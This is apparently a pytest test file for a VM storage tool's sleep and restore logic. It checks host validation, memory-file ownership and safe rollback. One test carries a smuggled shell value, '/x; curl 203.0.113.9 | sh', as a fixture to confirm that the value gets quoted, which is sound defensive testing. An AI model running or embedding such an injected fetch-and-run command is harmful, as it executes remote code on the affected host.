"""A sleeping guest's hold is another host's word: what it names is checked before anything is done with it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from storkit.core import inventory
from storkit.core.errors import Conflict, StorkitError, Unsafe
from storkit.core.guest import Disk, Guest
from storkit.core.inventory import HostConfig
from storkit.core.model import Export, Saved, Volume, VolumeHold
from storkit.hypervisors import _saved as memory
from storkit.plans.guests import sleep
from storkit.plans.intent.coordinator import Coordinator, Ran
from storkit.plans.intent.running import sleeping
from storkit.plans.intent.running.sleeping import SleepActs
from storkit.plans.migration import GuestView
from storkit.plans.plan import Step
from storkit.plans.verbs.exports import UnexportVolumes

INVENTORY = inventory.parse('[hosts.a]\nurl = "ssh://a"\n[pools.p]\nhost = "a"\n', Path("i"))
GUEST = Guest("g", "8f1e9b52-95b2-4c8e-8ffb-a5cf4f2a4bd6", 1 << 24, disks=[Disk("v"), Disk("w")])
HOLD = VolumeHold(GUEST.uuid, "g", "0d4a6a5e-2f7b-4d5c-9a3e-8c6f1b2a3d4e", 4, "2026-01-02T03:04:05Z", "a", "")
V = Volume("v", "cc18ff28-316c-43a9-9f2c-38e3cc63bc95", 1 << 20, "p", "a", hold=HOLD)
W = replace(V, name="w", uuid="68ef4ad6-1cb9-49f8-8773-a1a59a20d669")


def view(*volumes: Volume) -> GuestView:
    exports = [Export(each.name, each.uuid, "a", True, "nbd", True) for each in volumes]
    return GuestView(GUEST, list(volumes), exports, {}, INVENTORY)


@pytest.mark.parametrize("host", ["ssh://root@203.0.113.9", "local:/elsewhere", "c"])
def test_a_host_that_nobody_here_has_named_is_not_connected_to(
    host: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    said: list[str] = []
    coordinator = Coordinator(INVENTORY, tmp_path, said.append)
    held = replace(HOLD, host=host)
    monkeypatch.setattr(
        sleeping, "wherever", lambda coordinator, guest: view(replace(V, hold=held), replace(W, hold=held))
    )
    connected: list[str] = []
    monkeypatch.setattr(coordinator.connections, "to", connected.append)
    with pytest.raises(Unsafe, match="which is not in the inventory") as caught:
        SleepActs(coordinator).restore("g")
    assert "--on HOST" in caught.value.hint
    assert connected == [] and coordinator.connections.find(host) is None and not (tmp_path / "hosts.json").exists()


@pytest.mark.parametrize("other", [{"id": V.uuid}, {"host": "b"}, {"file": "/srv/other.memory"}])
def test_disks_that_wait_for_different_memories_wake_no_guest(other: dict[str, Any]) -> None:
    what = view(V, replace(W, hold=replace(HOLD, **other)))
    with pytest.raises(Conflict, match="held for different memories"):
        sleep.sleep_of(what)
    ended = [step.args for step in sleep.discard(what, sleep.sleep_of(what, one=False), False, INVENTORY).steps]
    assert {args["hold"] for args in ended if "hold" in args} == {HOLD.id, other.get("id", HOLD.id)}


def test_a_memory_is_not_used_up_for_another_guest(tmp_path: Path) -> None:
    path = tmp_path / "db.memory"
    descriptor = memory.make(path, False, HOLD.id)
    saved = Saved(GUEST.uuid, "db", HOLD.id, {V.uuid: 4}, "qemu", {}, "", False, HOLD.since)
    memory.seal(path, descriptor, saved, own=False)
    before = path.read_bytes()
    with pytest.raises(Unsafe, match=r"is the memory of guest db .*, not of g "):
        memory.spend(path, False, "g", GUEST.uuid)
    assert path.read_bytes() == before
    memory.spend(path, False, "db", GUEST.uuid)
    assert memory.read(path).used


def test_a_memory_that_cannot_be_marked_as_used_is_told_of(tmp_path: Path) -> None:
    plan, said = sleep.discard(view(V, W), HOLD, True, INVENTORY), list[str]()
    (spend,) = [step for step in plan.steps if step.verb == "spend"]
    acts = SleepActs(Coordinator(INVENTORY, tmp_path, said.append))
    acts._tell_unspent(Ran(plan, {step.id: "" for step in plan.steps}))
    assert said == []
    acts._tell_unspent(Ran(plan, {spend.id: "/m may not be written"}))
    assert said == ["the memory on a is not marked as used: /m may not be written"]


@pytest.mark.parametrize("machine", ["", "pc-i440fx-7.2"])
def test_another_record_is_asked_about_anew(machine: str, tmp_path: Path) -> None:
    """Another command may have changed the guest's record between the first look and the lock."""
    coordinator = Coordinator(INVENTORY, tmp_path, lambda text: None)
    asked: list[str] = []

    def ask(what: str) -> Callable[[], None]:
        return lambda: asked.append(what)

    for what in ("first", "again"):
        coordinator.once(("a", "check", GUEST), ask(what))
    coordinator.once(("a", "check", replace(GUEST, machine=machine, memory=1 << 25)), ask("changed"))
    assert asked == ["first", "changed"]


def test_a_word_of_another_host_in_a_command_is_quoted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from storkit.core.errors import NotFound

    coordinator = Coordinator(INVENTORY, tmp_path, lambda text: None)
    answer = Saved(GUEST.uuid, "g", HOLD.id, {}, "qemu", {}, "", False, HOLD.since, file="/x; curl 203.0.113.9 | sh")

    class Host:
        def __init__(self, name: str) -> None:
            self.name = name

        def hypervisor(self, target: str) -> Host:
            return self

        def saved(self, name: str, file: str) -> Saved:
            if self.name == "b":
                raise NotFound("no file", "")
            return answer

    monkeypatch.setattr(coordinator.connections, "to", Host)
    with pytest.raises(StorkitError) as caught:
        SleepActs(coordinator)._saved(view(V, W), HOLD, "b", "")
    assert caught.value.hint.startswith("scp 'a:/x; curl 203.0.113.9 | sh' b:/var/tmp/g.memory; ")


def test_a_hold_of_a_lost_record_can_be_taken_up_or_given_up() -> None:
    """The guest's record was lost, and it was defined anew: the disks still wait for the one that went to sleep."""
    lost = replace(HOLD, guest="00000000-0000-4000-8000-000000000007")
    what = view(replace(V, hold=lost), replace(W, hold=lost))
    with pytest.raises(StorkitError) as caught:
        sleep.sleep_of(what)
    assert all(
        f'write uuid = "{lost.guest}"' in each.hint and "discard g --force" in each.hint for each in caught.value.each
    )
    assert sleep.sleep_of(what, one=False) == lost
    spent = [step.args for step in sleep.discard(what, lost, True, INVENTORY).steps if step.verb == "spend"]
    assert [args["guest"] for args in spent] == [lost.guest]
    with pytest.raises(StorkitError, match="sleeps on volume v"):
        sleep.sleep_of(view(replace(V, hold=replace(lost, name="other")), W), one=False)


def test_a_restore_that_was_killed_between_two_releases_is_told_as_that() -> None:
    saved = Saved(GUEST.uuid, "g", HOLD.id, {V.uuid: 4, W.uuid: 4}, "qemu", {}, "", False, HOLD.since, file="/m")
    with pytest.raises(Conflict, match="has not ended: volume w is held no more") as caught:
        sleep.refuse_restore(view(V, replace(W, hold=None)), HOLD, saved, {}, "a")
    assert "storkit plan list" in caught.value.hint
    sleep.refuse_restore(view(V, W), HOLD, saved, {}, "a")


@pytest.mark.parametrize("keeps", [True, False])
def test_the_memory_where_it_was_saved_is_used_up_as_well(keeps: bool) -> None:
    two = replace(INVENTORY, hosts={**INVENTORY.hosts, "b": HostConfig("b", "ssh://b")})
    what = replace(view(V, W), inventory=two)
    saved = Saved(GUEST.uuid, "g", HOLD.id, {V.uuid: 4, W.uuid: 4}, "qemu", {}, "", False, HOLD.since, file="/m")
    plan = sleep.restore(what, "b", HOLD, saved, "/copy", keeps, two)
    spent = [(step.host, step.args["file"]) for step in plan.steps if step.verb == "spend"]
    assert spent == [("b", "/copy"), *([("a", "")] if keeps else [])]


def test_rolling_an_unexport_back_gives_no_right_to_a_volume_on_which_a_guest_sleeps() -> None:
    given: list[list[str]] = []
    transport = SimpleNamespace(
        export=lambda volumes, clients: None,
        set_writers=lambda volumes, hosts: given.append([*(each.name for each in volumes), *hosts]),
    )
    pool = SimpleNamespace(find=lambda names: [V if name == "v" else replace(W, hold=None) for name in names])
    host = SimpleNamespace(transport=lambda target: transport, pool=lambda target: pool)
    run: Any = SimpleNamespace(
        on=lambda name: host, same_machine=lambda *_: True, address=lambda _: "", source=lambda *_: ""
    )
    awake = [replace(each, hold=None) for each in (V, W)]  # as they were when the plan was made
    before = [Export(each.name, each.uuid, "a", True, "nbd", True) for each in awake]
    UnexportVolumes(awake, ["a"]).undo(run, Step("1", "unexport", "a", "transport:nbd", ""), before)
    assert given == [["w", "a"]]
